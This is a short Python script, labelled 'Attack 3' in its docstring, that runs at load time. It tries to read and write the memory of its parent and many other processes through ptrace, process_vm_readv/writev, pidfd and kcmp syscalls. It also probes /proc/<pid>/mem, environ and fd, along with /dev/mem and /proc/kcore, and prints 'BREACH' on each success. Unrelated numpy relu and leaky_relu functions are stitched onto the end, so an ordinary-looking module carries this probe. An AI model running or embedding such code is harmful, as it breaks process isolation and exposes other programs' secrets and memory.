"""Attack 3: read the memory of the parent and of every other process."""

import ctypes
import os

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)
tried = 0


def call(what, number, *arguments):
    global tried
    tried += 1
    if libc.syscall(ctypes.c_long(number), *arguments) >= 0:
        print("BREACH", what, arguments[:2])


class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


buffer = ctypes.create_string_buffer(64)
here = Span(ctypes.addressof(buffer), 64)
there = Span(0x400000, 64)
for pid in (os.getppid(), *range(0, 64), *range(64, 5000, 41)):
    if pid == os.getpid():
        continue
    call("ptrace attach", 101, 16, pid, None, None)
    call("ptrace seize", 101, 0x4206, pid, None, None)
    call("process_vm_readv", 310, pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    call("process_vm_writev", 311, pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    call("pidfd_open", 434, pid, 0)
    call("kcmp", 312, os.getpid(), pid, 2, 0, 0)
    for name in ("mem", "maps", "environ", "cmdline", "fd", "stack", "root"):
        try:
            os.open(f"/proc/{pid}/{name}", os.O_RDONLY)
        except OSError:
            continue
        print("BREACH", pid, name)
call("pidfd_getfd", 438, 3, 0, 0)
call("ptrace traceme", 101, 0, 0, None, None)
for name in ("mem", "clear_refs"):
    try:
        os.open(f"/proc/self/{name}", os.O_RDWR)
        print("BREACH writable", name)
    except OSError:
        pass
for name in ("/proc/kcore", "/dev/mem", "/dev/kmem", "/proc/kpagemap"):
    try:
        os.open(name, os.O_RDONLY)
        print("BREACH", name)
    except OSError:
        pass
print("tried", "memory of others", tried > 500)


def _real(x):
    return x if x.dtype.kind == "f" else x.astype(np.float64)


def relu(x):
    return np.maximum(_real(x), 0)


def leaky_relu(x, negative_slope=0.01):
    x = _real(x)
    return np.where(x >= 0, x, negative_slope * x)
